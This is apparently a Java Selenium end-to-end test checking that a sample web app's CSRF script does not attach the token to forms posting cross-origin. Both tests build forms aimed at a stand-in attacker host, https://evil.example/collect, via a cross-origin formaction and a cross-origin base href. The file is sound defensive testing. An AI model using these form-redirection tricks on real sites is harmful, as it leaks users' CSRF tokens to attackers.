package dev.durablestash.sample.counter;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;

/**
 * {@code /durable-stash.js} must add the CSRF token only to requests to the page's own origin. A
 * form whose own action is same-origin but whose submit button has a cross-origin
 * {@code formaction} posts to the other origin: the token must not go with it.
 */
class CsrfLeakBrowserEndToEndTest extends SecureSampleInChromium {

    @Test
    void aSubmitButtonWithACrossOriginFormactionGetsNoCsrfToken() {
        assumeTrue(Chromium.INSTALLED, Chromium.NOT_INSTALLED);
        openHomePageLoggedIn();

        Object leaked = ((JavascriptExecutor) browser).executeScript("""
                var form = document.createElement('form');
                form.method = 'post';
                form.action = '/somewhere';
                var button = document.createElement('button');
                button.type = 'submit';
                button.setAttribute('formaction', 'https://evil.example/collect');
                form.appendChild(button);
                document.body.appendChild(form);
                var sent = null;
                form.addEventListener('submit', function (event) {
                  event.preventDefault();
                  var field = form.querySelector('input[name="_csrf"]');
                  sent = field ? field.value : '';
                });
                button.click();
                return sent;
                """);
        assertThat(leaked).as("the CSRF token in a form posted to https://evil.example").isEqualTo("");
    }

    /**
     * A relative action resolves against the document's base URL ({@code <base href>}), not against
     * {@code location.href}: with a cross-origin base the form posts to the other origin.
     */
    @Test
    void aRelativeActionUnderACrossOriginBaseGetsNoCsrfToken() {
        assumeTrue(Chromium.INSTALLED, Chromium.NOT_INSTALLED);
        openHomePageLoggedIn();

        Object leaked = ((JavascriptExecutor) browser).executeScript("""
                var base = document.createElement('base');
                base.href = 'https://evil.example/';
                document.head.appendChild(base);
                var form = document.createElement('form');
                form.method = 'post';
                form.setAttribute('action', 'collect');
                var button = document.createElement('button');
                button.type = 'submit';
                form.appendChild(button);
                document.body.appendChild(form);
                var sent = null;
                form.addEventListener('submit', function (event) {
                  event.preventDefault();
                  var field = form.querySelector('input[name="_csrf"]');
                  sent = field ? form.action + ' ' + field.value : '';
                });
                button.click();
                return sent;
                """);
        assertThat(leaked).as("the CSRF token in a form posted to https://evil.example/collect").isEqualTo("");
    }

    private static void openHomePageLoggedIn() {
        browser.manage().deleteAllCookies();
        browser.get(app.baseUrl() + "/");
        if (browser.getCurrentUrl().contains("/login")) {
            logIn("ada", "ada");
        }
        assertThat(browser.findElements(By.cssSelector("meta[name=_csrf]"))).isNotEmpty();
    }
}
